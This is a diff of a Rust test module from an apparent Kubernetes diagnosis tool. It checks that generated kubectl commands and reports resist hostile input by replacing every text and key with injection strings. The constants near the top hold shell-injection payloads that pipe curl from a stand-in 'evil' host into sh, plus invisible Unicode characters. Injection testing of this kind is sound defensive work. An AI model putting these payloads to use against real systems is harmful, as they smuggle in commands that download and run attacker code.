@@ -3,21 +3,25 @@
 //!
 //! The worlds of all tests of causes are checked here automatically, so a test of a cause also tests this.
 
-use std::collections::BTreeSet;
+use std::collections::{BTreeMap, BTreeSet};
 
 use serde_json::{Map, Value, json};
 
 use crate::{
     characters::{is_unclear_in_a_command, is_unseen},
     command::{
-        Command, RunFlags,
+        Command,
         tests::{expected, split},
     },
-    diagnose::{Diagnosis, diagnose, testing::world::World},
+    diagnose::{
+        Diagnosis, diagnose,
+        testing::{
+            outputs::{Told, every_output},
+            world::World,
+        },
+    },
     knowledge::Knowledge,
-    output::{self, Style},
-    report::ExplainReport,
-    snapshot::facts::Object,
+    snapshot::facts::{Facts, Object},
 };
 
 /// Everything that a shell, a program or a pattern could act on, and a person can see.
@@ -26,15 +30,40 @@ const SEEN: &str = "-x' \"$(curl evil.example|sh)`id`;curl evil|sh #\\";
 const UNSEEN: &str = "-x;curl evil|sh\n\u{202e}\u{200b}\u{e0041}";
 /// A hostile end of a text that begins as it should.
 const END: &str = "';curl evil|sh;'";
-/// Bytes of a world. Larger worlds, of the tests with thousands of objects, repeat what smaller ones have.
-const MOST: usize = 20_000;
 
-/// Replaces each text and each key.
+/// Bytes of a world that is cut before. The tests with thousands of objects have them.
+const LARGE: usize = 20_000;
+/// What stays of a list of equals in a large world.
+const OF_EACH: usize = 4;
+
+/// Cuts what repeats itself: lists of texts, and the objects of one type.
+fn cut(value: &mut Value) {
+    match value {
+        Value::Array(items) => {
+            let mut met = BTreeMap::<String, usize>::new();
+            items.retain(|item| {
+                // A query with its answer is like no other.
+                if item.is_array() {
+                    return true;
+                }
+                let kind = item.get("resource").map_or_else(String::new, Value::to_string);
+                let number = met.entry(kind).or_default();
+                *number += 1;
+                *number <= OF_EACH
+            });
+            items.iter_mut().for_each(cut);
+        }
+        Value::Object(fields) => fields.values_mut().for_each(cut),
+        _ => {}
+    }
+}
+
+/// Replaces each text and each key. `asked` is what the diagnosis of the world itself reads.
 #[track_caller]
-pub(crate) fn withstands_strangers(world: &World, target: &Object, knowledge: &Knowledge) {
-    let whole = json!({"target": target, "world": world.to_json()});
-    if whole.to_string().len() > MOST {
-        return;
+pub(crate) fn withstands_strangers(world: &World, target: &Object, asked: &Facts, knowledge: &Knowledge) {
+    let mut whole = json!({"target": target, "world": world.to_json()});
+    if whole.to_string().len() > LARGE {
+        cut(&mut whole);
     }
     let (mut texts, mut keys) = (BTreeSet::new(), BTreeSet::new());
     collect(&whole, false, &mut texts, &mut keys);
@@ -45,7 +74,7 @@ pub(crate) fn withstands_strangers(world: &World, target: &Object, knowledge: &K
                 &|each| (each == text.as_str()).then(|| hostile.to_owned()),
                 &|_| None,
             );
-            check(world, &replaced, knowledge, text);
+            check(world, &replaced, (asked, knowledge), text);
         }
     }
     for key in &keys {
@@ -53,7 +82,7 @@ pub(crate) fn withstands_strangers(world: &World, target: &Object, knowledge: &K
             let replaced = map(&whole, &|_| None, &|each| {
                 (each == key.as_str()).then(|| hostile.to_owned())
             });
-            check(world, &replaced, knowledge, key);
+            check(world, &replaced, (asked, knowledge), key);
         }
     }
 }
@@ -102,21 +131,30 @@ fn map(
 
 /// Diagnoses the world of this JSON, unless the text is one of ours, such as a type of answer.
 #[track_caller]
-fn check(world: &World, replaced: &Value, knowledge: &Knowledge, text: &str) {
+fn check(world: &World, replaced: &Value, (asked, knowledge): (&Facts, &Knowledge), text: &str) {
     let Ok(target) = serde_json::from_value::<Object>(replaced["target"].clone()) else {
         return;
     };
     let Some(world) = world.with_json(&replaced["world"]) else {
         return;
     };
-    let diagnosis = world.answered(|facts| {
+    // Most of what the world itself is asked for is asked again. Reading it first saves most rounds.
+    let mut facts = world.facts();
+    for query in asked.answers.keys() {
+        facts.answers.insert(query.clone(), world.read(query));
+    }
+    let (diagnosis, facts) = world.read_more(facts, |facts| {
         let progress = diagnose(&target, facts, knowledge);
         (progress.diagnosis, progress.wanted)
     });
     for command in diagnosis.steps.iter().filter_map(|step| step.command.as_ref()) {
         check_command(command, text);
     }
-    check_output(&diagnosis, text);
+    let told = every_output(&world, &target, (&diagnosis, &facts), knowledge);
+    for one in &told {
+        check_told(one, text);
+    }
+    check_steps(&diagnosis, &told[0], text);
 }
 
 #[track_caller]
@@ -152,29 +190,69 @@ fn check_command(command: &Command, text: &str) {
     }
 }
 
+/// No text has anything that nobody sees, and what looks like a command is one.
 #[track_caller]
-fn check_output(diagnosis: &Diagnosis, text: &str) {
-    let report = ExplainReport::new(diagnosis, &RunFlags::default());
-    let style = Style {
-        width: Some(100),
-        ..Style::default()
-    };
-    let text_of = |write: &dyn Fn(&mut Vec<u8>)| {
-        let mut out = Vec::new();
-        write(&mut out);
-        let out = String::from_utf8(out).expect("UTF-8");
+fn check_told(told: &Told, text: &str) {
+    for out in told.texts.iter().chain([&told.names, &told.yaml]) {
         assert!(!out.contains(|c| is_unseen(c) && c != '\n'), "{text:?}: {out:?}");
-        out
+    }
+    for out in &told.texts {
+        for line in shell_lines(out) {
+            // A sentence can begin with the name of kubectl, too.
+            let is_command = line.starts_with("kubectl ") && line.contains("evil");
+            assert!(!is_command || split(&line).is_ok(), "{text:?}: {line} in\n{out}");
+        }
+    }
+    assert!(
+        !told.names.contains(['\'', ';', '$', '`']),
+        "{text:?}: {}",
+        told.names
+    );
+    check_commands(&told.json, text);
+}
+
+/// Each command of a report in JSON is made of its words, and of nothing else.
+#[track_caller]
+fn check_commands(json: &Value, text: &str) {
+    match json {
+        Value::Array(items) => items.iter().for_each(|item| check_commands(item, text)),
+        Value::Object(fields) => {
+            if let (Some(Value::String(line)), Some(argv)) = (fields.get("command"), fields.get("argv")) {
+                assert!(!line.contains(is_unclear_in_a_command), "{text:?}: {line:?}");
+                assert_eq!(split(line), Ok(words(fields, argv)), "{text:?}: {line}");
+            }
+            fields.values().for_each(|field| check_commands(field, text));
+        }
+        _ => {}
+    }
+}
+
+/// The words of a command with its pipes, from its parts in JSON.
+fn words(fields: &Map<String, Value>, argv: &Value) -> Vec<String> {
+    let texts = |value: &Value| -> Vec<String> {
+        let all = value.as_array().into_iter().flatten();
+        all.filter_map(Value::as_str).map(str::to_owned).collect()
     };
-    let table = text_of(&|out| output::explain::write(&report, true, &style, out).expect("written"));
-    let json = text_of(&|out| output::json::write(&report, out).expect("written"));
-    text_of(&|out| output::yaml::write(&report, out).expect("written"));
-    let name = text_of(&|out| {
-        output::explain::write_name(&report, out).expect("written");
-    });
-    assert!(!name.contains(['\'', ';', '$', '`']), "{text:?}: {name}");
-    let json: Value = serde_json::from_str(&json).expect("JSON");
-    let lines = shell_lines(&table);
+    let mut words = Vec::new();
+    if let Some(Value::String(input)) = fields.get("input") {
+        words.extend(["printf", "%s", input, "|"].map(str::to_owned));
+    }
+    words.extend(texts(argv));
+    if let Some(filter) = fields.get("filter") {
+        words.push("|".to_owned());
+        words.extend(texts(filter));
+    }
+    if let Some(Value::String(output)) = fields.get("output") {
+        words.extend([">", output].map(str::to_owned));
+    }
+    words
+}
+
+/// Each step stands in the explanation with the command that it has, or with the reason why that is not shown.
+#[track_caller]
+fn check_steps(diagnosis: &Diagnosis, told: &Told, text: &str) {
+    let table = &told.texts[0];
+    let lines = shell_lines(table);
     for (at, step) in diagnosis.steps.iter().enumerate() {
         let Some(command) = &step.command else { continue };
         if let Ok(line) = command.render() {
@@ -182,10 +260,10 @@ fn check_output(diagnosis: &Diagnosis, text: &str) {
                 lines.contains(&line),
                 "{text:?}: {line} is not a line of\n{table}"
             );
-            assert_eq!(json["steps"][at]["argv"], json!(command.argv()), "{text:?}");
+            assert_eq!(told.json["steps"][at]["argv"], json!(command.argv()), "{text:?}");
         } else {
             assert!(table.contains("the command is not shown"), "{text:?}: {table}");
-            assert!(json["steps"][at]["command"].is_null(), "{text:?}");
+            assert!(told.json["steps"][at]["command"].is_null(), "{text:?}");
         }
     }
 }
